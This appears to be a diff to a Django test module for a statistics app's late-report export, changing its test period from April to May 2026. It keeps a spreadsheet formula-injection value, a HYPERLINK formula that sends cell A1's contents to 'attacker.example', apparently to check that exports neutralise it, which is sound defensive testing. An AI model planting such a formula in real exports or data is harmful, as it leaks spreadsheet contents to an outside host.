@@ -16,7 +16,7 @@ from pakn.stats.services import late_explanation_save
 from tests.conftest import at
 from tests.stats.conftest import NOW, dataset  # noqa: F401  (the statistics fixture)
 
-APRIL = {"period": "month", "year": "2026", "month": "4"}
+MAY = {"period": "month", "year": "2026", "month": "5"}
 INJECTION = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'
 
 
@@ -25,9 +25,9 @@ def explained(dataset):  # noqa: F811
     with time_machine.travel(NOW, tick=False):
         late_explanation_save(
             actor=dataset.org.commune_leader,
-            report=dataset.r["R1"],
-            step="clarify",
-            due_at=at("2026-04-06 09:00"),
+            report=dataset.r["R3"],
+            step="handle",
+            due_at=at("2026-05-04 15:00"),
             agency=dataset.c1,
             text=INJECTION,
             now=NOW,
@@ -39,7 +39,7 @@ def _download(user, fmt: str):
     client = Client()
     client.force_login(user)
     with time_machine.travel(NOW, tick=False):
-        response = client.get(reverse("stats:late"), {**APRIL, "format": fmt})
+        response = client.get(reverse("stats:late"), {**MAY, "format": fmt})
     assert response.status_code == 200
     return response
 
